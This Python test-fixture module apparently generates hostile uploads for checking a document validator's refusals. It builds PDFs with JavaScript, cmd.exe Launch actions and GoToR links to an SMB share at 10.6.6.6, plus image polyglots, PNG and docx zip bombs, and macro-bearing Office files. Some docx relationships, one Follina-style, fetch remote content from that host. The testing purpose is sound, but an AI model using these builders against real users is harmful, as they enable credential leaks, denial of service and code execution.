"""Real hostile files, built in the tests: PDFs with active content (pikepdf), image polyglots and
bombs (Pillow and raw PNG chunks), office zip bombs (raw zip records, so a 1 GiB entry costs a
1 MiB deflate block repeated, never a 1 GiB buffer)."""
from __future__ import annotations

import functools
import struct
import zlib
from io import BytesIO

import pikepdf
from PIL import Image

from app.demo.autofill import SAMPLE_PDF, SAMPLE_PNG

JS = pikepdf.String("app.alert('pwned')")


def _pdf(mutate) -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(595, 842))
    mutate(pdf)
    out = BytesIO()
    pdf.save(out)
    return out.getvalue()


def _js_action():
    return pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=JS)


def _annotation(pdf, **entries):
    annot = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Rect=pikepdf.Array([0, 0, 100, 100]), **entries)
    pdf.pages[0].obj.Annots = pdf.make_indirect(pikepdf.Array([pdf.make_indirect(annot)]))


def _set(path, value):
    def mutate(pdf):
        target = pdf.Root
        for name in path[:-1]:
            target = target["/" + name]
        target["/" + path[-1]] = value(pdf) if callable(value) else value
    return mutate


def _names_javascript(pdf):
    pdf.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(
        Names=pikepdf.Array([pikepdf.String("init"), pdf.make_indirect(_js_action())])))


def _page_aa(pdf):
    pdf.pages[0].obj.AA = pikepdf.Dictionary(O=_js_action())


def _embedded(pdf):
    pdf.attachments["payload.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00 not really", mime_type="application/octet-stream")


def _xfa(pdf):
    xfa = pdf.make_stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><script>app.alert(1)</script></xdp:xdp>")
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array(), XFA=xfa)


def _encrypted() -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page()
    out = BytesIO()
    pdf.save(out, encryption=pikepdf.Encryption(user="rahasia", owner="rahasia"))
    return out.getvalue()


PDF_JS = "JavaScript"
PDF_ACTION = "aksi otomatis"
PDF_LAUNCH = "Launch"
PDF_EMBEDDED = "EmbeddedFile"
PDF_RICHMEDIA = "RichMedia"
PDF_XFA = "XFA"
PDF_BROKEN = "PDF rusak atau tidak dapat dibaca"
PDF_LOCKED = "PDF dilindungi kata sandi"

# name -> (builder, words the refusal must contain)
HOSTILE_PDFS = {
    "openaction_javascript": (lambda: _pdf(_set(["OpenAction"], lambda p: p.make_indirect(_js_action()))), "OpenAction"),
    "openaction_direct_js": (lambda: _pdf(_set(["OpenAction"], _js_action())), "OpenAction"),
    "names_tree_javascript": (lambda: _pdf(_names_javascript), PDF_JS),
    "catalog_aa": (lambda: _pdf(_set(["AA"], pikepdf.Dictionary(WC=_js_action()))), PDF_ACTION),
    "page_aa": (lambda: _pdf(_page_aa), PDF_ACTION),
    "link_annotation_js": (lambda: _pdf(lambda p: _annotation(p, Subtype=pikepdf.Name.Link, A=_js_action())), PDF_JS),
    "annotation_launch": (lambda: _pdf(lambda p: _annotation(p, Subtype=pikepdf.Name.Link, A=pikepdf.Dictionary(
        S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe")))), PDF_LAUNCH),
    "embedded_files": (lambda: _pdf(_embedded), PDF_EMBEDDED),
    "file_attachment_annotation": (lambda: _pdf(lambda p: _annotation(
        p, Subtype=pikepdf.Name.FileAttachment, Contents=pikepdf.String("x"))), PDF_EMBEDDED),
    "richmedia": (lambda: _pdf(lambda p: _annotation(p, Subtype=pikepdf.Name.RichMedia, RichMediaContent=pikepdf.Dictionary(
        Assets=pikepdf.Dictionary()))), PDF_RICHMEDIA),
    "acroform_xfa": (lambda: _pdf(_xfa), PDF_XFA),
    "unparseable": (lambda: b"%PDF-1.7\n" + b"\x00garbage" * 200, PDF_BROKEN),
    "encrypted": (_encrypted, PDF_LOCKED),
    # found in the attacker walk: a link that opens a file on a remote share (credential leak)
    "link_gotor_unc_share": (lambda: _pdf(lambda p: _annotation(p, Subtype=pikepdf.Name.Link, A=pikepdf.Dictionary(
        S=pikepdf.Name("/GoToR"), F=pikepdf.String("\\\\10.6.6.6\\share\\x.pdf"),
        D=pikepdf.Array([0, pikepdf.Name.Fit])))), "GoToR"),
    "javascript_appended_after_eof": (lambda: pdf_appended_catalog(), "OpenAction"),
    "gotor_in_catalog_aa": (lambda: _pdf(_set(["Names"], lambda p: pikepdf.Dictionary(Dests=pdf_dests_gotor(p)))), "GoToR"),
}


# ------------------------------------------------------------------------------------------ images
def jpeg(size=(16, 16), exif: bytes | None = None, comment: bytes | None = None) -> bytes:
    out = BytesIO()
    params = {}
    if exif is not None:
        params["exif"] = exif
    if comment is not None:
        params["comment"] = comment
    Image.new("RGB", size, (200, 30, 30)).save(out, "JPEG", **params)
    return out.getvalue()


def gps_exif() -> bytes:
    exif = Image.Exif()
    exif[0x010F] = "KameraRahasia"          # Make
    exif[0x0131] = "Perangkat Lunak X"     # Software
    return exif.tobytes()


HTML_TAIL = b"<html><body><script>alert(document.cookie)</script></body></html>"


def jpeg_html_polyglot() -> bytes:
    return jpeg() + HTML_TAIL


def png_with_text() -> bytes:
    from PIL.PngImagePlugin import PngInfo

    info = PngInfo()
    info.add_text("Comment", "<script>alert(1)</script>")
    out = BytesIO()
    Image.new("RGB", (8, 8), (1, 2, 3)).save(out, "PNG", pnginfo=info)
    return out.getvalue()


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def png_bomb(width: int = 100_000, height: int = 100_000) -> bytes:
    """A PNG declaring 10 gigapixels whose data is a few bytes: refused before any decoding."""
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", ihdr) + _chunk(b"IDAT", zlib.compress(b"\x00" * 64)) + \
        _chunk(b"IEND", b"")


def truncated_jpeg() -> bytes:
    data = jpeg((64, 64))
    return data[: len(data) // 2]


# -------------------------------------------------------------------------------------- office zips
def _zip(entries) -> bytes:
    """A zip from raw records: entries are (name, method, crc, compressed_parts, compressed_size,
    declared_size); compressed_parts is an iterable of byte strings (joined lazily)."""
    out = BytesIO()
    central = []
    for name, method, crc, parts, csize, usize in entries:
        offset = out.tell()
        raw_name = name.encode()
        out.write(struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, method, 0, 0x21, crc, csize, usize,
                              len(raw_name), 0) + raw_name)
        for part in parts:
            out.write(part)
        central.append(struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, 0, method, 0, 0x21, crc, csize,
                                   usize, len(raw_name), 0, 0, 0, 0, 0, offset) + raw_name)
    start = out.tell()
    for record in central:
        out.write(record)
    size = out.tell() - start
    count = min(len(central), 0xFFFF)
    out.write(struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, count, count, size, start, 0))
    return out.getvalue()


def _stored(name: str, data: bytes):
    return (name, 0, zlib.crc32(data) & 0xFFFFFFFF, [data], len(data), len(data))


def _deflated(name: str, data: bytes):
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    body = c.compress(data) + c.flush()
    return (name, 8, zlib.crc32(data) & 0xFFFFFFFF, [body], len(body), len(data))


OOXML_BASE = [("[Content_Types].xml", b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'),
              ("word/document.xml", b'<?xml version="1.0"?><w:document xmlns:w="urn:w"><w:body/></w:document>')]


def docx(extra=()) -> bytes:
    return _zip([_deflated(n, d) for n, d in OOXML_BASE] + list(extra))


def xlsx() -> bytes:
    return _zip([_deflated("[Content_Types].xml", OOXML_BASE[0][1]),
                 _deflated("xl/workbook.xml", b'<?xml version="1.0"?><workbook/>')])


@functools.lru_cache(maxsize=None)
def zeros_entry(name: str, mib: int, declared: int | None = None):
    """``mib`` MiB of zeros deflated: one 1 MiB block, full-flushed so every copy is identical,
    repeated ``mib`` times — the compressed bytes exist, the inflated ones never do."""
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = c.compress(bytes(1 << 20)) + c.flush(zlib.Z_FULL_FLUSH)
    tail = c.flush(zlib.Z_FINISH)
    crc = 0
    zero_mib = bytes(1 << 20)
    for _ in range(mib):
        crc = zlib.crc32(zero_mib, crc)
    size = mib << 20
    return (name, 8, crc & 0xFFFFFFFF, [block] * mib + [tail], len(block) * mib + len(tail),
            size if declared is None else declared)


@functools.lru_cache(maxsize=None)
def docx_bomb_1gib() -> bytes:
    """About 1 MB on the wire, 1 GiB once inflated."""
    return docx([zeros_entry("word/media/image1.bin", 1024)])


def docx_ratio_bomb() -> bytes:
    """20 MiB of zeros in ~20 kB: under the total limit, far over the compression ratio."""
    return docx([zeros_entry("word/media/image1.bin", 20)])


def docx_lying_sizes() -> bytes:
    """An entry that says it inflates to 1 kB but holds 64 MiB of zeros."""
    return docx([zeros_entry("word/media/image1.bin", 64, declared=1000)])


@functools.lru_cache(maxsize=None)
def docx_200k_entries() -> bytes:
    empty = (0, 0, [], 0, 0)
    entries = [_stored(n, d) for n, d in OOXML_BASE]
    entries += [(f"word/p{i}.xml", *empty) for i in range(200_000)]
    return _zip(entries)


def pdf_appended_catalog() -> bytes:
    """A clean PDF, then a second catalog (same object number) with an OpenAction appended after
    %%EOF without a new xref: qpdf reads the first, a viewer rebuilding the xref the second."""
    clean = _pdf(lambda pdf: None)
    with pikepdf.open(BytesIO(clean)) as pdf:
        root, pages = pdf.Root.objgen, pdf.Root.Pages.objgen
    return clean + (b"\n%d %d obj<</Type/Catalog/Pages %d %d R/OpenAction<</S/JavaScript/JS(app.alert(2))>>>>endobj"
                    b"\n%%%%EOF\n" % (root + pages))


def pdf_dests_gotor(pdf):
    return pdf.make_indirect(pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("a"), pikepdf.Dictionary(
        S=pikepdf.Name("/GoToR"), F=pikepdf.String("smb://10.6.6.6/x.pdf"))])))


RELS = ('<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" '
        'Target="{target}" TargetMode="External"/></Relationships>')


def docx_external(part: str, kind: str, target: str) -> bytes:
    return docx([_deflated(part, RELS.format(kind=kind, target=target).encode())])


def docx_with_part(name: str, data: bytes) -> bytes:
    return docx([_stored(name, data)])


def docx_macro() -> bytes:
    return docx([_stored("word/vbaProject.bin", b"\xd0\xcf\x11\xe0 macro")])


# --------------------------------------------------------------------------------- the refusal table
EXTENSION = "tetapi isinya"
IMAGE_BROKEN = "Gambar rusak"
IMAGE_BIG = "Resolusi gambar terlalu besar"
ZIP_BOMB = "zip bomb"
ZIP_MANY = "terlalu banyak bagian"
MACRO = "makro"
EXTERNAL = "hubungan eksternal"


def hostile_table() -> dict[str, tuple]:
    """name -> (bytes builder, filename, words the field's message must contain)."""
    table = {f"pdf_{name}": (builder, "dokumen.pdf", words) for name, (builder, words) in HOSTILE_PDFS.items()}
    table.update({
        "png_named_pdf": (lambda: SAMPLE_PNG, "ktp.pdf", EXTENSION),
        "jpeg_named_png": (jpeg, "ktp.png", EXTENSION),
        "pdf_named_jpg": (lambda: SAMPLE_PDF, "ktp.jpg", EXTENSION),
        "png_without_extension": (lambda: SAMPLE_PNG, "ktp", "ekstensi yang sesuai"),
        "png_decompression_bomb": (png_bomb, "bom.png", IMAGE_BIG),
        "jpeg_truncated": (truncated_jpeg, "potong.jpg", IMAGE_BROKEN),
        "docx_1mb_inflating_to_1gib": (docx_bomb_1gib, "bom.docx", ZIP_BOMB),
        "docx_compression_ratio": (docx_ratio_bomb, "rasio.docx", ZIP_BOMB),
        "docx_lying_sizes": (docx_lying_sizes, "bohong.docx", "Office"),
        "docx_200k_entries": (docx_200k_entries, "banyak.docx", ZIP_MANY),
        "docx_with_macro": (docx_macro, "makro.docx", MACRO),
        "docx_named_xlsx": (docx, "tabel.xlsx", EXTENSION),
        "doc_with_macros": (lambda: doc_with_macros(), "makro.doc", MACRO),
        "xls_with_vba_project": (lambda: xls_with_vba(), "makro.xls", MACRO),
        "doc_named_xls": (lambda: doc_clean(), "surat.xls", EXTENSION),
        # found in the attacker walk: parts Office fetches from elsewhere on opening, parts that
        # are other archives or programs under an innocent name
        "docx_remote_template": (lambda: docx_external("word/_rels/settings.xml.rels", "attachedTemplate",
                                                       "http://10.6.6.6/t.dotm"), "templat.docx", EXTERNAL),
        "docx_linked_ole_mhtml": (lambda: docx_external("word/_rels/document.xml.rels", "oleObject",
                                                        "mhtml:http://10.6.6.6/x.html!x-usc:http://10.6.6.6/x.html"),
                                  "follina.docx", EXTERNAL),
        "docx_external_image_beacon": (lambda: docx_external("word/_rels/document.xml.rels", "image",
                                                             "https://10.6.6.6/pixel.png"), "suar.docx", EXTERNAL),
        "docx_hyperlink_to_unc_share": (lambda: docx_external("word/_rels/document.xml.rels", "hyperlink",
                                                              "file://10.6.6.6/share/x.exe"), "tautan.docx", EXTERNAL),
        "docx_rels_with_dtd": (lambda: docx([_deflated("_rels/.rels", b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "b">]>'
                                                        b'<Relationships xmlns="x"/>')]), "dtd.docx", EXTERNAL),
        "docx_nested_zip_as_image": (lambda: docx_with_part("word/media/image1.png", docx()), "bersarang.docx", MACRO),
        "docx_exe_part": (lambda: docx_with_part("word/media/readme.bin", b"MZ\x90\x00\x03" + b"\x00" * 64),
                          "program.docx", MACRO),
        "docx_elf_part": (lambda: docx_with_part("customXml/item9.xml", b"\x7fELF\x02\x01\x01" + b"\x00" * 64),
                          "elf.docx", MACRO),
    })
    return table


HOSTILE = hostile_table()


# ------------------------------------------------------------------------------ legacy OLE (doc/xls)
def ole(streams: dict[str, bytes], storages: tuple[str, ...] = ()) -> bytes:
    """A minimal compound file (CFB v3, 512-byte sectors) with these top-level streams (each padded
    to 4096 bytes, so no mini stream) and empty storages — enough for olefile and for Word's sniffing."""
    end, free, fat_sect, nostream = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD, 0xFFFFFFFF
    entries = [(name, 1, b"") for name in storages] + [(name, 2, data.ljust(4096, b"\0")) for name, data in streams.items()]
    # sector 0: FAT, sector 1: directory, then each stream's 8 sectors
    fat, data_sectors, starts = [fat_sect, end], [], []
    for _name, kind, data in entries:
        if kind == 2:
            first = 2 + len(data_sectors)
            count = len(data) // 512
            starts.append(first)
            fat += [first + i + 1 for i in range(count - 1)] + [end]
            data_sectors += [data[i * 512:(i + 1) * 512] for i in range(count)]
        else:
            starts.append(end)
    assert len(fat) <= 128 and len(entries) <= 3
    fat_bytes = struct.pack("<128I", *(fat + [free] * (128 - len(fat))))

    def entry(name, kind, left, right, child, start, size):
        raw = name.encode("utf-16-le") + b"\0\0"
        return struct.pack("<64sHBBIII16sIQQIQ", raw, len(raw), kind, 1, left, right, child, b"\0" * 16, 0, 0, 0,
                           start, size)

    # a chain of right siblings under the root, in CFB order (shorter names first)
    order = sorted(range(len(entries)), key=lambda i: (len(entries[i][0]), entries[i][0].upper()))
    directory = [entry("Root Entry", 5, nostream, nostream, 1 + order[0], end, 0)]
    for i, (name, kind, data) in enumerate(entries):
        position = order.index(i)
        right = 1 + order[position + 1] if position + 1 < len(order) else nostream
        directory.append(entry(name, kind, nostream, right, nostream, starts[i], len(data) if kind == 2 else 0))
    directory += [b"\0" * 64 + struct.pack("<HBBIII", 0, 0, 0, nostream, nostream, nostream) + b"\0" * 52] * \
        (4 - len(directory))
    header = struct.pack("<8s16sHHHHH6sIIIIIIIII", bytes.fromhex("D0CF11E0A1B11AE1"), b"\0" * 16, 0x3E, 3, 0xFFFE,
                         9, 6, b"\0" * 6, 0, 1, 1, 0, 4096, end, 0, end, 0)
    header += struct.pack("<109I", 0, *([free] * 108))
    return header + fat_bytes + b"".join(directory) + b"".join(data_sectors)


def doc_clean() -> bytes:
    return ole({"WordDocument": b"\xec\xa5 teks"})


def doc_with_macros() -> bytes:
    return ole({"WordDocument": b"\xec\xa5 teks"}, storages=("Macros",))


def xls_with_vba() -> bytes:
    return ole({"Workbook": b"\x09\x08 sheet"}, storages=("_VBA_PROJECT_CUR",))
